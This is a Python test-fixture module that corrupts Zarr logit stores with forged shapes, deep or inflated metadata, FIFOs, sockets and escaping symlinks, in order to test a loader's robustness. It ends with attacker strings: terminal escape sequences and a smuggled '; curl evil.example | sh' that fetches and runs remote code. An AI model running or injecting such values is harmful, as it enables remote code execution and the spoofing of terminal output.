"""Hostile logit stores, made from a sound local copy: forged shapes, special files,
links that leave the store, nested or inflated metadata, foreign objects, forged strings. Each
function changes the store at ``store`` in place. ``files_of`` snapshots what a user had (links
and FIFOs as what they are, never read through), so a case can assert it is byte-identical.
"""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path


def files_of(paths) -> dict:
    """{path: bytes, ("link", target), "fifo", "socket" or "dir"} of everything under ``paths``."""
    out = {}
    for root in map(Path, paths):
        if not os.path.lexists(root):
            out[str(root)] = None
            continue
        entries = [root] if root.is_symlink() or not root.is_dir() else sorted(root.rglob("*"))
        for p in entries:
            if p.is_symlink():
                out[str(p)] = ("link", os.readlink(p))
            elif p.is_fifo():
                out[str(p)] = "fifo"
            elif p.is_socket():
                out[str(p)] = "socket"
            elif p.is_dir():
                out[str(p)] = "dir"
            else:
                out[str(p)] = p.read_bytes()
    return out


def _meta_path(store: Path, array: str = "") -> Path:
    return Path(store) / array / "zarr.json" if array else Path(store) / "zarr.json"


def edit_meta(store: Path, array: str, fn):
    path = _meta_path(store, array)
    meta = json.loads(path.read_text())
    fn(meta)
    path.write_text(json.dumps(meta))


def rows_per_chunk(store: Path) -> int:
    return json.loads(_meta_path(store, "logits").read_text())["chunk_grid"]["configuration"]["chunk_shape"][1]


def forge_samples(store: Path, n: int = 10**9):
    """Every array claims ``n`` samples, consistently (its objects hold the real few): only a
    check against the objects finds the lie."""
    rows = rows_per_chunk(store)
    for name in ("logits", "order", "views", "labels", "done"):

        def fn(m, name=name):
            if name == "labels":
                m["shape"] = [n]
                m["chunk_grid"]["configuration"]["chunk_shape"] = [n]
            elif name == "done":
                m["shape"] = [m["shape"][0], -(-n // rows)]
            else:
                m["shape"][1] = n

        edit_meta(store, name, fn)


def forge_done_chunks(store: Path, n: int = 10**12):
    """The done mask alone claims ``n`` chunks per epoch (931 GiB of flags at 10^12)."""
    edit_meta(store, "done", lambda m: m.__setitem__("shape", [m["shape"][0], n]))


def forge_chunk_rows(store: Path, rows):
    edit_meta(
        store, "logits", lambda m: m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [1, rows, m["shape"][2]])
    )


def forge_labels_short(store: Path):
    edit_meta(
        store,
        "labels",
        lambda m: (m.__setitem__("shape", [50]), m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [50])),
    )


def forge_shape(store: Path, array: str, shape):
    edit_meta(store, array, lambda m: m.__setitem__("shape", shape))


def nest_metadata(store: Path, array: str = "", depth: int = 200_000):
    """A metadata document nested ``depth`` levels deep (a RecursionError for a naive parser)."""
    path = _meta_path(store, array)
    text = path.read_text().rstrip()
    path.write_text(text[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}")


def inflate_metadata(store: Path, nbytes: int = 2 << 20):
    edit_meta(store, "", lambda m: m["attributes"].__setitem__("padding", "x" * nbytes))


def garble_metadata(store: Path, array: str = ""):
    _meta_path(store, array).write_bytes(b"\x89PNG\r\n\x1a\n not json at all")


def first_chunk(store: Path, array: str = "logits") -> Path:
    return Path(store) / array / "c" / "0" / "0" / ("0" if array in ("logits", "views") else "")


def _chunk(store: Path, array: str) -> Path:
    p = first_chunk(store, array)
    return p if p.name else p.parent


def chunk_fifo(store: Path, array: str = "logits"):
    path = _chunk(store, array)
    os.remove(path)
    os.mkfifo(path)


def chunk_link(store: Path, target, array: str = "logits"):
    path = _chunk(store, array)
    os.remove(path)
    os.symlink(target, path)


def chunk_link_outside(store: Path, outside: Path, array: str = "logits"):
    """The chunk moved outside the store, a link left in its place (a sound chunk, not the store's)."""
    path = _chunk(store, array)
    os.replace(path, outside)
    os.symlink(outside, path)


def array_link_outside(store: Path, elsewhere: Path, array: str = "order"):
    os.replace(Path(store) / array, elsewhere)
    os.symlink(elsewhere, Path(store) / array)


def metadata_link(store: Path, target: str = "/dev/zero"):
    os.remove(_meta_path(store))
    os.symlink(target, _meta_path(store))


def lock_fifo(store: Path):
    os.mkfifo(Path(store) / ".lock")


def socket_in(store: Path) -> socket.socket:
    """A listening Unix socket inside the store (returned: the caller closes it)."""
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(Path(store) / "logits" / "sock"))
    return s


def dangling_link(store: Path):
    os.symlink(Path(store) / "logits" / "gone", Path(store) / "logits" / "c" / "stale")


def set_attr(store: Path, key: str, value):
    edit_meta(store, "", lambda m: m["attributes"].__setitem__(key, value))


def set_dataset_field(store: Path, key: str, value):
    edit_meta(store, "", lambda m: m["attributes"]["dataset"].__setitem__(key, value))


def drop_attr(store: Path, key: str):
    edit_meta(store, "", lambda m: m["attributes"].pop(key))


def set_record_field(store: Path, record: str, key: str, value):
    """One field of a record stage 1 writes (``teacher``, ``policy``, ``dataset``) set to ``value``."""
    edit_meta(store, "", lambda m: m["attributes"][record].__setitem__(key, value))


def nest_attr(store: Path, key: str, depth: int = 900):
    """Attribute ``key`` nested ``depth`` levels deep: within what JSON parsers take, beyond any store's."""
    value = json.loads('{"a": ' + "[" * (depth - 1) + "]" * (depth - 1) + "}")
    set_attr(store, key, value)


def set_array_field(store: Path, array: str, key: str, value):
    """A key of an array's ``zarr.json`` (``data_type``, ``fill_value``, ``dimension_names``, ...)."""
    edit_meta(store, array, lambda m: m.__setitem__(key, value))


def set_chunk_shape(store: Path, array: str, shape):
    edit_meta(store, array, lambda m: m["chunk_grid"]["configuration"].__setitem__("chunk_shape", shape))


def set_key_separator(store: Path, array: str, separator: str):
    edit_meta(store, array, lambda m: m["chunk_key_encoding"]["configuration"].__setitem__("separator", separator))


def drop_checksum(store: Path, array: str = "logits"):
    """The array's codec chain without its CRC32C (the objects still end in theirs)."""
    edit_meta(store, array, lambda m: m.__setitem__("codecs", [c for c in m["codecs"] if c["name"] != "crc32c"]))


def set_blosc(store: Path, array: str, key: str, value):
    edit_meta(
        store,
        array,
        lambda m: next(c for c in m["codecs"] if c["name"] == "blosc")["configuration"].__setitem__(key, value),
    )


def scale_array_in_fp16_store(store: Path):
    """An int8 store's ``logit_scale`` array beside an fp16 store's logits (order's geometry, float32)."""
    meta = json.loads(_meta_path(store, "order").read_text())
    meta.update(data_type="float32", fill_value=1.0)
    (Path(store) / "logit_scale").mkdir()
    _meta_path(store, "logit_scale").write_text(json.dumps(meta))


def consolidate(store: Path):
    """Consolidated metadata in the group's document: Zarr would read the arrays' metadata from it."""
    edit_meta(
        store,
        "",
        lambda m: m.__setitem__("consolidated_metadata", {"kind": "inline", "must_understand": False, "metadata": {}}),
    )


def delete_first_chunk(store: Path):
    os.remove(first_chunk(store))


# strings an attacker who can write the store would record
ESCAPES = "\x1b[2J\x1b]0;owned\x07\r"
SHELL_TAIL = "; curl evil.example | sh"
